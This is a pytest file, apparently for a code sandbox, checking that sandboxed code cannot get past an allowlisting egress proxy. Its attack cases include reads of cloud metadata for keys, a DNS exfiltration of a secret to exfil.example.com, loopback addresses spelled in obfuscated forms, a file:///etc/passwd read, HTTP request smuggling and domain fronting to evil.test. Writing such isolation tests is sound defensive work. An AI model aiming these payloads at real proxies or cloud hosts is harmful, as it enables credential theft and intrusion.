"""Attacks by way of the network: without a way out, and with one that leads to a few hosts only.

C16: no resolver, no route, one proxy. The hosts outside count who reached them.
"""

from collections.abc import AsyncGenerator
from contextlib import AsyncExitStack
from dataclasses import dataclass
from pathlib import Path
from typing import NamedTuple

import pytest

from domain.sandbox import EgressRow
from services.sandbox.egress.broker import OnDenied
from services.sandbox.failures import SandboxUnavailable
from services.sandbox.port import SandboxSpec
from tests.attacks.arena import LIMITS, Arena, Attack, arena
from tests.contract.sandbox_backends import ATTACKED, BackendUnderTest
from tests.integration.egress_world import GOOD, World, world

pytestmark = [pytest.mark.anyio, pytest.mark.sandbox]

CLOSED = [
    Attack("host-loopback", "reach a server of the host", """
tries(lambda: reach(socket.AF_INET, ('127.0.0.1', told['tcp'])))
tries(lambda: reach(socket.AF_INET, ('127.1.2.3', told['tcp'])))
tries(lambda: reach(socket.AF_INET, ('0.0.0.0', told['tcp'])))
tries(lambda: reach(socket.AF_INET6, ('::1', told['tcp6'])))
tries(lambda: reach(socket.AF_INET6, ('::ffff:127.0.0.1', told['tcp'])))
"""),
    Attack("host-addresses", "reach the host by the addresses that engines give it", """
for host in ('172.17.0.1', '10.0.2.2', '192.168.65.2', '10.88.0.1', '169.254.1.1'):
    tries(lambda: reach(socket.AF_INET, (host, told['tcp'])))
"""),
    Attack("host-names", "reach the host by the names that engines give it", """
for host in ('host.docker.internal', 'gateway.docker.internal', 'host.containers.internal'):
    tries(lambda: socket.create_connection((host, told['tcp']), 3))
"""),
    Attack("metadata", "ask the cloud for its keys", """
for host in ('169.254.169.254', '169.254.170.2', '100.100.100.200', '168.63.129.16', '192.0.0.192'):
    tries(lambda: reach(socket.AF_INET, (host, 80)))
tries(lambda: reach(socket.AF_INET6, ('fd00:ec2::254', 80)))
"""),
    Attack("public", "reach the world", """
for port in (22, 25, 53, 80, 443):
    tries(lambda: reach(socket.AF_INET, ('1.1.1.1', port)))
tries(lambda: reach(socket.AF_INET6, ('2606:4700:4700::1111', 443)))
"""),
    Attack("datagrams", "send datagrams to the host and the world", """
for host in ('8.8.8.8', '10.0.0.1', '255.255.255.255', '224.0.0.251'):
    tries(lambda: send(socket.AF_INET, (host, told['udp'])))
with contextlib.suppress(OSError):
    send(socket.AF_INET, ('127.0.0.1', told['udp']))  # to its own loopback, if it has one
tries(lambda: send(socket.AF_INET6, ('ff02::1', 9)))
"""),
    Attack("names", "carry a secret out in the labels of a name", """
for name in ('c2VjcmV0.exfil.example.com', 'example.com', 'exfil.local'):
    tries(lambda: socket.getaddrinfo(name, 443))
def ask(server):
    question = struct.pack('>6H', 0x1234, 0x100, 1, 0, 0, 0)
    question += b'\\x06secret\\x03com\\x00' + struct.pack('>2H', 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
        asked.settimeout(1)
        asked.sendto(question, (server, 53))
        return asked.recv(512)
for server in ('127.0.0.53', '127.0.0.11', '8.8.8.8', '169.254.169.253'):
    tries(lambda: ask(server))
"""),
    Attack("raw-sockets", "write packets by hand", """
tries(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
tries(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
tries(lambda: socket.socket(17, socket.SOCK_RAW, 768))
tries(lambda: socket.socket(17, socket.SOCK_DGRAM, 768))
"""),
    Attack("vsock", "talk to the hypervisor, whom no network namespace holds off", """
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
    tries(lambda: socket.socket(40, kind))
def other_way():
    if not x86:
        raise OSError
    apart(lambda: call(libc.syscall, 0x40000000 + 41, 40, 1, 0))
tries(other_way)
"""),
    Attack("odd-families", "use protocols that nobody thinks of", """
for family in (3, 4, 5, 9, 15, 18, 21, 23, 29, 30, 31, 36, 38, 41, 44):
    tries(lambda: socket.socket(family, socket.SOCK_DGRAM))
"""),
    Attack("host-unix-sockets", "reach a server of the host by a file or by a name", """
tries(lambda: reach(socket.AF_UNIX, told['socket']))
tries(lambda: reach(socket.AF_UNIX, chr(0) + told['abstract']))
def unconnected():
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    return one.sendto(b'x', '/dev/log')
tries(unconnected)
"""),
    Attack("raise-interfaces", "make an interface, a route or an address", """
def ioctl(number, name):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
        return fcntl.ioctl(asked, number, struct.pack('16sh22x', name, 0x1043))
tries(lambda: ioctl(0x8914, b'lo'))
tries(lambda: ioctl(0x890b, b'eth0'))
tries(lambda: os.open('/dev/net/tun', os.O_RDWR))
link = ['ip', 'link', 'add', 'x0', 'type', 'dummy']
tries(lambda: subprocess.run(link, check=True, capture_output=True))
"""),
]  # fmt: skip


@pytest.mark.parametrize("attack", CLOSED, indirect=True, ids=lambda one: one.name)
async def test_nothing_gets_out_without_a_way_out(attacked: Arena, attack: Attack) -> None:
    assert (await attacked.sandbox()).proxy is None
    await attacked.held(attack)


# With a way out: the same attacks, and those on the proxy itself.


@dataclass
class Reaching:
    """An arena whose sandbox reaches `up.test` by the proxy, and nothing else."""

    arena: Arena
    here: World

    async def ask(self, request: str) -> str:
        """Send the proxy some bytes as they are; the first line it answers."""
        said = await self.arena.python(
            f"request = {request!r}\n"
            "with socket.create_connection(('127.0.0.1', 3128), 10) as asked:\n"
            "    asked.sendall(request.encode('latin-1'))\n"
            "    got = asked.recv(4096)\n"
            "print('said', got.decode('latin-1').split(chr(13))[0])\n"
        )
        assert "over" in said.output, said.output
        return said.output.partition("said ")[2].partition("\n")[0]


@pytest.fixture(scope="module", params=ATTACKED)
async def reaching(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> AsyncGenerator[Reaching]:
    tried: BackendUnderTest = request.param
    if tried.missing is not None:
        pytest.skip(tried.missing)
    async with AsyncExitStack() as stack:
        folder: Path = tmp_path_factory.mktemp("world")
        here = await stack.enter_async_context(world(folder, policy={"domains": (GOOD,)}))
        made = await stack.enter_async_context(arena(tried))
        if made.promises["egress"]:
            spec = SandboxSpec(
                made.owner,
                made.room.workspace,
                limits=LIMITS,
                egress=True,
                files=here.prepared.files,
            )
            made.opened = await made.backend.open(spec)
            made.env = here.prepared.env
            assert made.opened.proxy is not None
            session = await here.broker.attach(here.prepared, made.opened.proxy, here_denied(here))
            stack.push_async_callback(session.close)
            yield Reaching(made, here)
            return
    pytest.skip(f"{tried.name} does not promise egress, and its report says so")


def here_denied(here: World) -> OnDenied:
    async def denied(row: EgressRow) -> None:
        here.denied.append(row)

    return denied


class Ask(NamedTuple):
    """What is sent to the proxy, and why it says no; `{web}` is a port that may be reached."""

    name: str
    tries: str
    reason: str
    request: str


def get(url: str, host: str = f"{GOOD}:{{web}}", *headers: str) -> str:
    return "\r\n".join([f"GET {url} HTTP/1.1", f"Host: {host}", *headers, "", ""])


def connect(to: str) -> str:
    return f"CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n"


POST = "POST http://up.test:{web}/ HTTP/1.1\r\nHost: up.test:{web}\r\n"

REFUSED = [
    Ask(
        "other-host",
        "ask for a host that is not allowed",
        "not_allowed",
        get("http://evil.test:{web}/", "evil.test:{web}"),
    ),
    Ask(
        "tunnel-other-host",
        "tunnel to a host that is not allowed",
        "not_allowed",
        connect("evil.test:443"),
    ),
    Ask(
        "below-allowed",
        "ask for a name below the allowed one",
        "not_allowed",
        connect("x.up.test:443"),
    ),
    Ask(
        "like-allowed", "ask for a name that ends alike", "not_allowed", connect("evilup.test:443")
    ),
    Ask(
        "prefix-of-allowed",
        "ask for a name that begins alike",
        "not_allowed",
        connect("up.test.evil.test:443"),
    ),
    Ask("loopback", "tunnel to the host itself", "ip_literal", connect("127.0.0.1:{web}")),
    Ask("loopback-short", "spell the host's address short", "ip_literal", connect("127.1:{web}")),
    Ask("loopback-number", "spell it as one number", "ip_literal", connect("2130706433:{web}")),
    Ask(
        "loopback-hex", "spell it in hexadecimal digits", "ip_literal", connect("0x7f000001:{web}")
    ),
    Ask("loopback-octal", "spell it in octal digits", "ip_literal", connect("0177.0.0.1:{web}")),
    Ask("loopback-6", "spell it as of version 6", "ip_literal", connect("[::1]:{web}")),
    Ask("loopback-mapped", "spell it as mapped", "ip_literal", connect("[::ffff:127.0.0.1]:{web}")),
    Ask("localhost", "use its name", "not_allowed", connect("localhost:{web}")),
    Ask(
        "metadata",
        "ask the cloud for its keys",
        "ip_literal",
        get("http://169.254.169.254/latest/", "169.254.169.254"),
    ),
    Ask(
        "metadata-name",
        "ask for them by name",
        "not_allowed",
        connect("metadata.google.internal:80"),
    ),
    Ask(
        "proxy-itself", "go through the proxy to the proxy", "ip_literal", connect("127.0.0.1:3128")
    ),
    Ask("other-port", "tunnel to a port that is no web server's", "port", connect("up.test:22")),
    Ask(
        "user-before-host",
        "hide the host behind a user's name",
        "userinfo",
        get("http://up.test@evil.test:{web}/", "evil.test:{web}"),
    ),
    Ask("other-scheme", "use another protocol", "scheme", get("ftp://up.test/", GOOD)),
    Ask("file-scheme", "read a file of the proxy's", "scheme", get("file:///etc/passwd", GOOD)),
    Ask("relative", "leave out the host of the request", "bad_request", get("/", GOOD)),
    Ask(
        "host-mismatch",
        "name one host in the line and another in the header",
        "host_mismatch",
        get("http://evil.test:{web}/"),
    ),
    Ask("null-in-host", "end the name early", "bad_request", connect("up.test\0.evil.test:443")),
    Ask(
        "tab-in-host",
        "break the name by a blank",
        "bad_request",
        connect("up.test\t.evil.test:443"),
    ),
    Ask(
        "wide-characters",
        "spell the name in other letters",
        "bad_request",
        connect("\xb5p.test:443"),
    ),
    Ask(
        "huge-head",
        "send a head without end",
        "too_large",
        "GET http://up.test/ HTTP/1.1\r\nX: " + "a" * 90_000,
    ),
    Ask(
        "folded-header",
        "fold a header over two lines",
        "host_mismatch",
        "GET http://up.test:{web}/ HTTP/1.1\r\nHost: up.test:{web}\r\n evil.test\r\n\r\n",
    ),
    Ask(
        "two-hosts",
        "name two hosts",
        "bad_request",
        get("http://up.test:{web}/", "up.test:{web}", "Host: evil.test:{web}"),
    ),
    Ask(
        "two-lengths",
        "give two lengths, to smuggle a second request",
        "bad_request",
        POST + "Content-Length: 4\r\nContent-Length: 44\r\n\r\nabcd",
    ),
    Ask(
        "length-and-chunks",
        "give a length and chunks, to smuggle a second request",
        "smuggling",
        POST + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    ),
]


@pytest.mark.parametrize("ask", REFUSED, ids=lambda one: one.name)
async def test_proxy_refuses_and_dials_nobody(reaching: Reaching, ask: Ask) -> None:
    here = reaching.here
    await here.forget()
    first = await reaching.ask(ask.request.replace("{web}", str(here.web.port)))
    assert first == f"HTTP/1.1 403 egress denied: {ask.reason}", ask.tries
    assert (here.web.connections, here.safe.connections) == (0, 0)
    reaching.arena.unharmed()


async def test_proxy_serves_what_is_allowed(reaching: Reaching) -> None:
    """So that the refusals above mean something."""
    await reaching.here.forget()
    first = await reaching.ask(
        get(f"http://{GOOD}:{reaching.here.web.port}/", f"{GOOD}:{reaching.here.web.port}")
    )
    assert first.startswith("HTTP/1.1 200")
    assert reaching.here.web.connections == 1


OPEN = [attack for attack in CLOSED if attack.name != "raise-interfaces"]


@pytest.mark.parametrize("attack", OPEN, ids=lambda one: one.name)
async def test_way_out_opens_nothing_beside_it(reaching: Reaching, attack: Attack) -> None:
    await reaching.arena.held(attack)


async def test_ignoring_the_proxy(reaching: Reaching) -> None:
    """Removes the proxy's variables, and asks for an allowed host directly."""
    await reaching.here.forget()
    said = await reaching.arena.python(
        "for name in list(os.environ):\n"
        "    if name.lower().endswith('_proxy'): del os.environ[name]\n"
        "import urllib.request\n"
        f"url = 'http://{GOOD}:{reaching.here.web.port}/'\n"
        "tries(lambda: urllib.request.urlopen(url, timeout=5))\n"
    )
    assert "denied" in said.output
    assert reaching.here.web.connections == 0


async def test_tunnel_to_an_allowed_host_for_another(reaching: Reaching) -> None:
    """Opens a tunnel to an allowed host, and asks for another one in it: fronting."""
    here = reaching.here
    await here.forget()
    said = await reaching.arena.python(
        "import ssl\n"
        "def front():\n"
        "    raw = socket.create_connection(('127.0.0.1', 3128), 10)\n"
        f"    to = b'{GOOD}:{here.safe.port}'\n"
        "    raw.sendall(b'CONNECT %b HTTP/1.1\\r\\nHost: %b\\r\\n\\r\\n' % (to, to))\n"
        "    assert b' 200 ' in raw.recv(4096)\n"
        "    context = ssl._create_unverified_context()\n"
        "    with context.wrap_socket(raw, server_hostname='evil.test') as safe:\n"
        "        safe.sendall(b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')\n"
        "        return safe.recv(100)\n"
        "tries(front)\n"
    )
    assert "denied" in said.output, said.output
    assert here.safe.heads == []
    reaching.arena.unharmed()


async def test_proxys_place_cannot_be_taken(reaching: Reaching) -> None:
    """Listens where the proxy is, to serve other programs of the sandbox; or tries to close it."""
    said = await reaching.arena.python(
        "def take(address):\n"
        "    with socket.socket() as taken:\n"
        "        taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
        "        taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)\n"
        "        taken.bind((address, 3128)); taken.listen()\n"
        "tries(lambda: take('127.0.0.1'))\n"
        "tries(lambda: take('0.0.0.0'))\n"
    )
    assert "GOT" not in said.output
    assert said.output.count("denied") == 2


async def test_sandbox_that_cannot_reach_out_is_not_opened_without_the_wish(
    attacked: Arena,
) -> None:
    """Where a backend has no way out, one that is wanted is refused, and not left out."""
    if attacked.promises["egress"]:
        pytest.skip(f"{attacked.name} has a way out")
    spec = SandboxSpec(attacked.owner, attacked.room.workspace, egress=True)
    with pytest.raises(SandboxUnavailable):
        await attacked.backend.open(spec)
